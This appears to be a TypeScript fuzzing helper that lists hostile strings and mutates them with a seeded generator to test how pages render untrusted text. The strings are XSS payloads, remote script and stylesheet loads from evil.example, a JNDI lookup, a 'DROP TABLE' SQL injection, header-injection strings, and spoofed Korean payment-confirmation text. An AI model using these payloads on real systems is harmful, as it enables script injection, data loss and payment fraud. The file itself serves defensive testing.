// Texts that would run, or break a page, if anything showed them: the classics of HTML, attributes, scripts, styles, URLs,
// templates, headers and encodings, and what a seeded generator makes of them.

/** What every text tries to do. */
const RUN = "ran(document.domain)";

const CORES = [
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext></p><style><img src=x onerror=${RUN}></style>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>@import "//evil.example/x.css";*{display:none}</style>`,
  `<template><script>${RUN}</script></template>`,
  `<leptos-island data-component="x" data-props="${RUN}"></leptos-island>`,
  `<main data-outcome="paid">paid</main>`,
  `" autofocus onfocus="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `\` onmouseover=${RUN} `,
  `" style="position:fixed;inset:0" onmouseover="${RUN}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C%2Fscript%3E`,
  `%253Cscript%253E${RUN}%253C%252Fscript%253E`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `x\r\nSet-Cookie: a=b\r\n\r\n<script>${RUN}</script>`,
  `x\nContent-Security-Policy: script-src *`,
  `\u202e<script>${RUN}</script>\u202c`,
  `\u200b\u2066결제가 완료됐어요\u2069`,
  `결제가 완료됐어요. <b>64,900원</b>`,
  `' OR 1=1; DROP TABLE orders; --`,
  `\${jndi:ldap://evil.example/x}`,
];
const BEFORE = ["", " ", "\t", "\n", "\u0000", "\u000b", "\"", "'", ">", "/>", "\">", "'>", "<!--", "<![CDATA[", "&", "취소 ", "\ufeff", "\ud83d\ude00", "\u0301", "%00"];
const AFTER = ["", " ", "//", "<!--", "-->", "\"", "'", "\u0000", "/*", "\u2028", "<", "\u00a0", "</", "&#x", "\\"];

/** So many texts, all different, the same in every run. */
export function hostileTexts(count: number): string[] {
  const texts = new Set<string>(CORES);
  let seed = 20_261_121;
  const draw = (below: number) => {
    // Mulberry32: small, and good enough to mix.
    seed = (seed + 0x6d2b79f5) | 0;
    let mixed = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
  const one = <T>(of: readonly T[]): T => of[draw(of.length)] as T;
  const changes: ((text: string) => string)[] = [
    (text) => text,
    (text) => text.toUpperCase(),
    (text) => [...text].map((letter) => (draw(2) === 0 ? letter.toUpperCase() : letter)).join(""),
    (text) => text.replaceAll(" ", one(["/", "\t", "\n", "\u000c"])),
    (text) => text.replaceAll("=", one([" = ", "=\n", "\u0000="])),
    (text) => text.replaceAll("<", one(["<\u0000", "%3C", "&lt;", "<<", "\\x3c"])),
    (text) => text.slice(0, 1 + draw(text.length)),
    (text) => text + one(CORES),
    (text) => text.repeat(2 + draw(3)),
  ];
  while (texts.size < count) {
    texts.add(one(BEFORE) + one(changes)(one(CORES)) + one(AFTER));
  }
  return [...texts].slice(0, count);
}
